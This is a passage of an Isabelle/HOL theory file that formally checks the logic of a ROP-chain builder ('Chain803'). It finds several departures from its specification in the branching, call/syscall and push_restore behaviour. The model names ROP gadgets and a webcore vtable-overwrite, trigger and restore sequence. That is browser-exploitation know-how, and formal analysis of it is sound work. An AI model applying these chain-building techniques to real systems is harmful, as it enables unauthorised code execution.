    by (rule keeps_flag_run_ops) (auto dest: in_push_args simp: keeps_flag_basic)
  then show ?thesis
    by (simp add: keeps_flag_def push_syscall_def split: option.splits)
qed

lemma keeps_flag_push_write64: "keeps_flag (push_write64 a v)"
  unfolding push_write64_def by (rule keeps_flag_run_ops) (auto simp: keeps_flag_basic)

lemma keeps_flag_push_get_retval: "keeps_flag push_get_retval"
  unfolding push_get_retval_def by (rule keeps_flag_run_ops) (auto simp: keeps_flag_basic)

lemma keeps_flag_push_end: "keeps_flag push_end"
  by (simp add: push_end_def keeps_flag_push_gadget)

lemma keeps_flag_push_save: "keeps_flag push_save"
proof -
  have "keeps_flag (run_ops
        [with_gadget ''setjmp'' (\<lambda>a s. push_call a [jmp_buf_p s] s),
         (\<lambda>s. Inr (s\<lparr>is_saved := True\<rparr>))])"
    by (rule keeps_flag_run_ops)
       (auto intro!: keeps_flag_with_gadget keeps_flag_push_call' keeps_flag_update)
  then show ?thesis by (simp add: keeps_flag_def push_save_def)
qed

lemma keeps_flag_push_restore: "keeps_flag (push_restore is_force)"
  unfolding keeps_flag_def
proof (intro allI impI)
  fix s :: chain assume s: "is_branch_ctx s"
  show "is_branch_ctx (res_chain (push_restore is_force s))"
  proof (cases "push_gadget ''pop rax; ret'' s")
    case (Inl x)
    with s keeps_flag_push_gadget [of "''pop rax; ret''"] show ?thesis
      by (auto simp: keeps_flag_def push_restore_def)
  next
    case (Inr s1)
    with s keeps_flag_push_gadget [of "''pop rax; ret''"] have s1: "is_branch_ctx s1"
      by (auto simp: keeps_flag_def)
    have "keeps_flag (run_ops
                [push_constant 0,
                 push_gadget ''pop rdi; ret'',
                 (\<lambda>s. push_value (jmp_buf_p s + 0x39) s),
                 push_gadget ''mov qword ptr [rdi], rax; ret'',
                 push_gadget ''pop rax; ret'',
                 with_gadget ''ret'' push_value,
                 push_gadget ''pop rdi; ret'',
                 (\<lambda>s. push_value (jmp_buf_p s + 0x80) s),
                 push_gadget ''mov qword ptr [rdi], rax; ret'',
                 with_gadget ''longjmp'' (\<lambda>a s. push_call a [jmp_buf_p s] s),
                 push_constant 0,
                 push_constant 0,
                 (\<lambda>s. Inr (s\<lparr>stack := write64 (stack s) (int (position s1))
                                          (stack_addr s + word_of_int (int (position s)))\<rparr>)),
                 (\<lambda>s. Inr (s\<lparr>is_saved := True\<rparr>))])"
      by (rule keeps_flag_run_ops)
         (auto intro!: keeps_flag_with_gadget keeps_flag_push_call' keeps_flag_update
               simp: keeps_flag_basic)
    with s s1 Inr show ?thesis
      by (simp add: keeps_flag_def push_restore_def Let_def)
  qed
qed

lemma keeps_flag_do_push: "keeps_flag (do_push op)"
  by (cases op)
     (simp_all add: keeps_flag_basic keeps_flag_push_call keeps_flag_push_syscall
        keeps_flag_push_write64 keeps_flag_push_get_retval keeps_flag_push_end
        keeps_flag_push_save keeps_flag_push_restore)

lemma keeps_flag_start_branch: "keeps_flag start_branch"
  by (simp add: keeps_flag_def start_branch_def)

lemma keeps_flag_end_branch: "keeps_flag end_branch"
  by (simp add: keeps_flag_def end_branch_def Let_def clean_branch_ctx_def)

lemma keeps_flag_run: "keeps_flag run"
  unfolding run_def
  by (rule keeps_flag_run_ops)
     (auto simp: keeps_flag_def check_stale_def check_is_empty_def check_is_branching_def)

lemma keeps_flag_clean: "keeps_flag (\<lambda>s. Inr (clean s))"
  by (simp add: keeps_flag_def clean_def clean_branch_ctx_def)

lemma keeps_flag_call: "keeps_flag (call f args)"
proof -
  have "keeps_flag (run_ops
        [push_call f args, push_get_retval, push_end, run, (\<lambda>s. Inr (clean s))])"
    by (rule keeps_flag_run_ops)
       (auto simp: keeps_flag_push_call keeps_flag_push_get_retval keeps_flag_push_end
          keeps_flag_run keeps_flag_clean)
  then show ?thesis by (simp add: keeps_flag_def call_def)
qed

lemma keeps_flag_syscall: "keeps_flag (syscall name args)"
proof -
  have "keeps_flag (run_ops
        [push_syscall name args, push_get_retval, push_end, run, (\<lambda>s. Inr (clean s))])"
    by (rule keeps_flag_run_ops)
       (auto simp: keeps_flag_push_syscall keeps_flag_push_get_retval keeps_flag_push_end
          keeps_flag_run keeps_flag_clean)
  then show ?thesis by (simp add: keeps_flag_def syscall_def)
qed

lemma keeps_flag_do_call: "keeps_flag (do_call a)"
  by (cases a)
     (simp_all add: keeps_flag_do_push keeps_flag_start_branch keeps_flag_end_branch
        keeps_flag_run keeps_flag_call keeps_flag_syscall keeps_flag_clean)

lemma Chain803_new_flag: "Chain803_new e = Inr c \<Longrightarrow> is_branch_ctx c"
  by (auto simp: Chain803_new_def clean_branch_ctx_def split: list.splits)

lemma built_flag: "built s \<Longrightarrow> is_branch_ctx s"
proof (induction rule: built.induct)
  case (built_new e c)
  then show ?case by (rule Chain803_new_flag)
next
  case (built_call s a)
  with keeps_flag_do_call [of a] show ?case by (simp add: keeps_flag_def)
qed

lemma built_start_branch_throws:
  "built s \<Longrightarrow> start_branch s = Inl (Error ''chain already branching, end it first'', s)"
  by (simp add: built_flag start_branch_def)

lemma built_end_branch_returns:
  "built s \<Longrightarrow> end_branch s \<noteq> Inl (Error ''can not end nonbranching chain'', s)
     \<and> (\<exists>t. end_branch s = Inr t)"
  by (simp add: built_flag end_branch_def Let_def)

lemma built_new_chain: "built new_chain"
  by (rule built_new) (rule Chain803_new_example)

text \<open>
  C4. By the specification a branch whose body is \<open>N\<close> bytes gets the delta \<open>N\<close>, and
  \<open>start_branch()\<close> followed at once by \<open>end_branch()\<close> computes the delta 0. In the code
  no branch starts: \<open>is_branch_ctx\<close> is set on every chain the code builds
  (\<open>built_flag\<close>), so \<open>start_branch()\<close> throws on the new chain and on every cleaned
  chain, whatever body and \<open>end_branch()\<close> would follow, and no delta is written.
\<close>

theorem start_branch_throws_on_new_chain:
  "start_branch new_chain = Inl (Error ''chain already branching, end it first'', new_chain) \<and>
   run_ops (start_branch # map do_push body @ [end_branch]) new_chain
     = Inl (Error ''chain already branching, end it first'', new_chain) \<and>
   run_ops (start_branch # map do_push body @ [end_branch]) (clean s)
     = Inl (Error ''chain already branching, end it first'', clean s)"
  by (simp add: run_ops.simps start_branch_def new_chain_fields clean_def clean_branch_ctx_def)

text \<open>
  C5. By the specification \<open>start_branch()\<close> on a chain with an open branch context
  throws and \<open>end_branch()\<close> on a chain with no open branch context throws. The first
  holds. On the new chain, where no \<open>start_branch()\<close> was ever called, and on every
  cleaned chain \<open>end_branch()\<close> does not throw: the guard reads the flag that
  \<open>_clean_branch_ctx()\<close> sets, the delta is 0 and it is written at the offset that
  \<open>delta_slot = true\<close> gives.
\<close>

theorem end_branch_returns_on_new_chain:
  "start_branch new_chain = Inl (Error ''chain already branching, end it first'', new_chain) \<and>
   end_branch new_chain
     = Inr (clean_branch_ctx (new_chain\<lparr>stack := write64 (stack new_chain) 1 0\<rparr>)) \<and>
   end_branch (clean s)
     = Inr (clean_branch_ctx ((clean s)\<lparr>stack := write64 (stack s) 1 0\<rparr>)) \<and>
   end_branch new_chain \<noteq> Inl (Error ''can not end nonbranching chain'', new_chain)"
  by (simp add: start_branch_def end_branch_def Let_def new_chain_fields clean_def
      clean_branch_ctx_def ChainBase_clean_def)

section \<open>Guards, invocation and restore\<close>

lemma push_gadget_ok:
  "gadgets s k \<noteq> None \<Longrightarrow> position s + 8 \<le> length (stack s) \<Longrightarrow>
     push_gadget k s = Inr (pushed (the (gadgets s k)) s)"
  by (auto simp: push_gadget_iff)

lemma push_constant_ok:
  "position s + 8 \<le> length (stack s) \<Longrightarrow> push_constant n s = Inr (pushed (word_of_int n) s)"
  by (simp add: push_constant_iff)

lemma with_gadget_ok:
  "gadgets s k \<noteq> None \<Longrightarrow> with_gadget k f s = f (the (gadgets s k)) s"
  by (auto simp: with_gadget_def)

lemma start_branch_example:
  "\<exists>s1. start_branch (new_chain\<lparr>is_branch_ctx := False\<rparr>) = Inr s1 \<and> position s1 = 304 \<and>
     delta_slot s1 = FNum 104 \<and> gadgets s1 = gadgets new_chain \<and> length (stack s1) = 4096
     \<and> is_branch_ctx s1"
  by (simp add: start_branch_def push_flag_addr_def run_ops.simps push_gadget_ok push_constant_ok
      push_value_ok example_gadgets new_chain_fields)

lemma delta_of_started_branch_example:
  "\<exists>s1 s2 s3. start_branch (new_chain\<lparr>is_branch_ctx := False\<rparr>) = Inr s1 \<and>
      push_all [PushGadget ''ret'', PushConstant 5] s1 = Inr s2 \<and>
      end_branch s2 = Inr s3 \<and> delta_slot s1 = FNum 104 \<and>
      position s2 = position s1 + 16 \<and> read64 (stack s3) 104 = 16"
proof -
  obtain s1 where s1: "start_branch (new_chain\<lparr>is_branch_ctx := False\<rparr>) = Inr s1"
    and f: "position s1 = 304" "delta_slot s1 = FNum 104" "gadgets s1 = gadgets new_chain"
      "length (stack s1) = 4096"
    using start_branch_example by blast
  define s2 where "s2 = pushed 5 (pushed 0x800000032 s1)"
  have s2: "push_all [PushGadget ''ret'', PushConstant 5] s1 = Inr s2"
    by (simp add: push_all_def run_ops.simps push_gadget_ok push_constant_ok f example_gadgets
        s2_def)
  from delta_of_started_branch [OF s1 s2] obtain d s3 where
    "delta_slot s1 = FNum (int d)" "end_branch s2 = Inr s3"
    "read64 (stack s3) d = word_of_int (int (position s2) - int (position s1))"
    by blast
  moreover from this(1) f(2) have "d = 104" by simp
  moreover have "position s2 = position s1 + 16" by (simp add: s2_def)
  ultimately show ?thesis using s1 s2 f(2) by auto
qed

text \<open>
  C7. \<open>run()\<close> throws, with the target untouched, whenever the chain is stale, empty or
  still branching: the three checks come first, and the target is written (vtable
  overwrite, trigger, vtable restore) only when all three have passed.
\<close>

theorem run_checks_before_target_write:
  "(is_stale s \<longrightarrow> run s = Inl (Error ''chain already ran, clean it first'', s)) \<and>
   (\<not> is_stale s \<and> position s = 0 \<longrightarrow>
      run s = Inl (Error ''chain is empty'', s\<lparr>is_stale := True\<rparr>)) \<and>
   (\<not> is_stale s \<and> position s \<noteq> 0 \<and> is_branch_ctx s \<longrightarrow>
      run s = Inl (Error ''chain is still branching, end it before running'',
                   s\<lparr>is_stale := True\<rparr>)) \<and>
   (is_stale s \<or> position s = 0 \<or> is_branch_ctx s \<longrightarrow>
      (\<exists>e s'. run s = Inl (e, s') \<and> target_log s' = target_log s)) \<and>
   (run s = Inr s' \<longrightarrow>
      \<not> is_stale s \<and> position s \<noteq> 0 \<and> \<not> is_branch_ctx s \<and>
      target_log s' = target_log s @
        [TargetWrite64 (webcore_ta s) 0 (vtable_p s), ScrollLeft,
         TargetWrite64 (webcore_ta s) 0 (old_vtable_p s)])"
  by (auto simp: run_def run_ops.simps check_stale_def check_is_empty_def check_is_branching_def
      split: if_splits)

theorem run_checks_before_target_write_witness:
  "run (new_chain\<lparr>is_stale := True\<rparr>)
     = Inl (Error ''chain already ran, clean it first'', new_chain\<lparr>is_stale := True\<rparr>) \<and>
   run new_chain = Inl (Error ''chain is empty'', new_chain\<lparr>is_stale := True\<rparr>) \<and>
   run (pushed 0x800000032 new_chain)
     = Inl (Error ''chain is still branching, end it before running'',
            (pushed 0x800000032 new_chain)\<lparr>is_stale := True\<rparr>) \<and>
   (\<exists>s'. run ((pushed 0x800000032 new_chain)\<lparr>is_branch_ctx := False\<rparr>) = Inr s' \<and>
      target_log s' =
        [TargetWrite64 0x200006000 0 0x200007000, ScrollLeft,
         TargetWrite64 0x200006000 0 0x900000000])"
proof -
  have ok: "\<exists>s'. run ((pushed 0x800000032 new_chain)\<lparr>is_branch_ctx := False\<rparr>) = Inr s'"
    by (simp add: run_def run_ops.simps check_stale_def check_is_empty_def
        check_is_branching_def new_chain_fields)
  then obtain s' where s': "run ((pushed 0x800000032 new_chain)\<lparr>is_branch_ctx := False\<rparr>) = Inr s'"
    by blast
  have addrs: "webcore_ta new_chain = 0x200006000" "vtable_p new_chain = 0x200007000"
    "old_vtable_p new_chain = 0x900000000"
    by (simp_all add: new_chain_def clean_branch_ctx_def ChainBase_new_def example_env_def)
  show ?thesis
    using run_checks_before_target_write [of "new_chain\<lparr>is_stale := True\<rparr>"]
      run_checks_before_target_write [of new_chain]
      run_checks_before_target_write [of "pushed 0x800000032 new_chain"]
      run_checks_before_target_write [of "(pushed 0x800000032 new_chain)\<lparr>is_branch_ctx := False\<rparr>" s']
      s'
    by (simp add: new_chain_fields addrs)
qed

lemma call_needs_empty_chain:
  "position s \<noteq> 0 \<Longrightarrow> call func_addr args s = Inl (Error ''call() needs an empty chain'', s)"
  "position s \<noteq> 0 \<Longrightarrow>
     syscall name args s = Inl (Error ''syscall() needs an empty chain'', s)"
  by (simp_all add: call_def syscall_def)

lemma run_Inr_not_branching: "run s = Inr s' \<Longrightarrow> \<not> is_branch_ctx s"
  by (auto simp: run_def run_ops.simps check_stale_def check_is_empty_def check_is_branching_def
      split: if_splits)

lemma call_branching_never_returns:
  assumes "is_branch_ctx s"
  shows "call func_addr args s \<noteq> Inr s'"
proof
  assume "call func_addr args s = Inr s'"
  then obtain m1 m2 m3 m4 where "push_call func_addr args s = Inr m1"
    "push_get_retval m1 = Inr m2" "push_end m2 = Inr m3" "run m3 = Inr m4"
    by (auto simp: call_def run_ops_Cons_iff split: if_splits)
  then have "extends s m3" "\<not> is_branch_ctx m3"
    by (blast intro: extends_trans push_call_extends push_get_retval_extends push_end_extends
          dest: run_Inr_not_branching)+
  with assms show False by (simp add: extends_def)
qed

lemma syscall_branching_never_returns:
  assumes "is_branch_ctx s"
  shows "syscall name args s \<noteq> Inr s'"
proof
  assume "syscall name args s = Inr s'"
  then obtain m1 m2 m3 m4 where "push_syscall name args s = Inr m1"
    "push_get_retval m1 = Inr m2" "push_end m2 = Inr m3" "run m3 = Inr m4"
    by (auto simp: syscall_def run_ops_Cons_iff split: if_splits)
  then have "extends s m3" "\<not> is_branch_ctx m3"
    by (blast intro: extends_trans push_syscall_extends push_get_retval_extends push_end_extends
          dest: run_Inr_not_branching)+
  with assms show False by (simp add: extends_def)
qed

text \<open>
  C6. By the specification \<open>call\<close> and \<open>syscall\<close> run an empty chain and leave it
  empty and cleaned. In the code every chain that the constructor or \<open>clean()\<close> produced has
  \<open>is_branch_ctx\<close> set, the pushes keep it, and \<open>run()\<close> throws at
  \<open>check_is_branching()\<close>: neither method ever returns on such a chain, and after
  \<open>call(addr)\<close> on the new chain the five appended cells are still there, the chain is
  stale and the target was never reached.
\<close>

theorem call_on_new_chain_throws:
  "call func_addr args new_chain \<noteq> Inr s' \<and> syscall name args new_chain \<noteq> Inr s' \<and>
   call func_addr args (clean s) \<noteq> Inr s' \<and> syscall name args (clean s) \<noteq> Inr s' \<and>
   call 0x810001234 [] new_chain
     = Inl (Error ''chain is still branching, end it before running'',
            (pushed 0x800291fd7 (pushed 0x80005b1bb (pushed 0x200002000 (pushed 0x8001e3f87
               (pushed 0x810001234 new_chain)))))\<lparr>is_stale := True\<rparr>) \<and>
   position (pushed 0x800291fd7 (pushed 0x80005b1bb (pushed 0x200002000 (pushed 0x8001e3f87
               (pushed 0x810001234 new_chain))))) = 40"
proof -
  have "is_branch_ctx (clean s)" by (simp add: clean_def clean_branch_ctx_def)
  moreover have "call 0x810001234 [] new_chain
     = Inl (Error ''chain is still branching, end it before running'',
            (pushed 0x800291fd7 (pushed 0x80005b1bb (pushed 0x200002000 (pushed 0x8001e3f87
               (pushed 0x810001234 new_chain)))))\<lparr>is_stale := True\<rparr>)"
    by (simp add: call_def push_call_def push_args_def argument_pops_def push_get_retval_def
        push_end_def rop_epilogue_def run_def run_ops.simps push_gadget_ok push_value_ok
        check_stale_def check_is_empty_def check_is_branching_def example_gadgets
        new_chain_fields)
  ultimately show ?thesis
    by (simp add: call_branching_never_returns syscall_branching_never_returns new_chain_fields)
qed

lemma push_call1_ok:
  "gadgets s ''pop rdi; ret'' \<noteq> None \<Longrightarrow> position s + 24 \<le> length (stack s) \<Longrightarrow>
     push_call f [a] s = Inr (pushed f (pushed a (pushed (the (gadgets s ''pop rdi; ret'')) s)))"
  by (auto simp: push_call1_iff)

lemma push_restore_example:
  "\<exists>s'. push_restore False new_chain = Inr s' \<and> position s' = 120"
  by (simp add: push_restore_def Let_def run_ops.simps push_gadget_ok push_constant_ok
      push_value_ok with_gadget_ok push_call1_ok example_gadgets new_chain_fields)

text \<open>
  C2. By the specification \<open>push_restore()\<close> without the force flag throws when no
  \<open>push_save()\<close> was appended since construction or the last \<open>clean()\<close>. In the code
  \<open>is_saved\<close> is true after the constructor and after \<open>clean()\<close>, so on the chain that
  \<open>new Chain803()\<close> returns the unforced \<open>push_restore()\<close> returns and appends its 15
  cells.
\<close>

theorem push_restore_without_save_returns:
  "Chain803_new example_env = Inr new_chain \<and>
   (\<exists>s'. push_restore False new_chain = Inr s' \<and> position s' = 120) \<and>
   is_saved (clean s)"
  by (simp add: Chain803_new_example push_restore_example clean_def)



end
